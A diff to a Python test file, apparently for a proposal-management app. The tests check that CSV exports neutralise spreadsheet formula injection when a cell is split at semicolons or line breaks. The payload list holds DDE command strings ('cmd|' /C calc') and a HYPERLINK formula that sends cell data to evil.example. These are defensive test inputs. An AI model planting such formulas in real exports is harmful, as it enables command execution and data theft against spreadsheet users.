@@ -41,7 +41,10 @@ def _dangerous(cell: str) -> bool:
 
 def test_a_cell_is_never_a_formula() -> None:
     for text in PAYLOADS:
-        assert csv_cell(text) == "'" + text
+        # a tab or a line break that starts a cell starts a line of a spreadsheet reading
+        # with semicolons too: what follows it gets its own apostrophe (trialcrowd23)
+        inner = text[0] in "\t\r\n"
+        assert csv_cell(text) == "'" + (text[0] + "'" + text[1:] if inner else text)
     for number in ("-5", "+1.5", "-0.25", "12"):
         assert csv_cell(number) == number
     assert csv_cell("Pulsars - timing") == "Pulsars - timing"
@@ -89,3 +92,54 @@ def test_a_cell_reorders_nothing_after_it() -> None:
     assert csv_cell("\u2067-2+3+cmd\u2069") == "'-2+3+cmd"
     # the marks and joiners that scripts need are kept
     assert csv_cell("র\u200d্যাব \u200fمحمد") == "র\u200d্যাব \u200fمحمد"
+
+
+#: formulas after a semicolon or a line break inside a cell (trialcrowd23): a
+#: spreadsheet whose list separator is ";" (Excel in French, Spanish, German... locales:
+#: the decimal mark is a comma) opens our comma-separated file splitting every line at
+#: its semicolons, and a line break inside a quoted cell ends its record when a quote
+#: read out of step leaves it unquoted; the text after either is a cell of its own
+INNER_PAYLOADS = [
+    'Pulsars;=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "Pulsars; -2+3+cmd|' /C calc'!A0",
+    "Pulsars;@SUM(1+1)*cmd|' /C calc'!A0",
+    'Pulsars;"=1+1',
+    "Pulsars;\t=1+1",
+    "Pulsars\n=1+1",
+    "Pulsars\r\n+1+cmd|' /C calc'!A0",
+    "Pulsars;\uff1d1+1",
+]
+
+
+def _cells_read_with_semicolons(body: str) -> list[str]:
+    """Every cell of ``body`` as a spreadsheet with ";" as its list separator reads it
+    (Python's reader, lenient as spreadsheets are about a quote inside a cell)."""
+    return [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
+
+
+def test_a_cell_after_a_semicolon_or_a_line_break_is_never_a_formula() -> None:
+    for text in INNER_PAYLOADS:
+        for before in ([], ["P-001"], ["P-001", "a, b"]):
+            line = io.StringIO()
+            csv.writer(line).writerow([*before, csv_cell(text), "x"])
+            for cell in _cells_read_with_semicolons(line.getvalue()):
+                assert not _dangerous(cell), (text, before, line.getvalue(), cell)
+    # text without a formula keeps its semicolons and lines as they are
+    assert csv_cell("Pulsars; timing\nin 2026") == "Pulsars; timing\nin 2026"
+
+
+def test_the_exports_read_with_semicolons_hold_no_formula(
+    web: Web, factory: sessionmaker[Session]
+) -> None:
+    data = world(factory, len(INNER_PAYLOADS))
+    with factory() as s:
+        props = s.scalars(select(Proposal).where(Proposal.code.in_(data["codes"]))).all()
+        for p, text in zip(props, INNER_PAYLOADS, strict=False):
+            p.title = text
+        s.commit()
+    chair = web.login(data["chair"])
+    for what in ("decisions", "assignment", "ranking", "schedule"):
+        r = chair.get(f"/manage/calls/{data['slug']}/{what}?format=csv")
+        assert r.status_code == 200, (what, r.text[:300])
+        for cell in _cells_read_with_semicolons(r.text.lstrip("\ufeff")):
+            assert not _dangerous(cell), (what, cell)
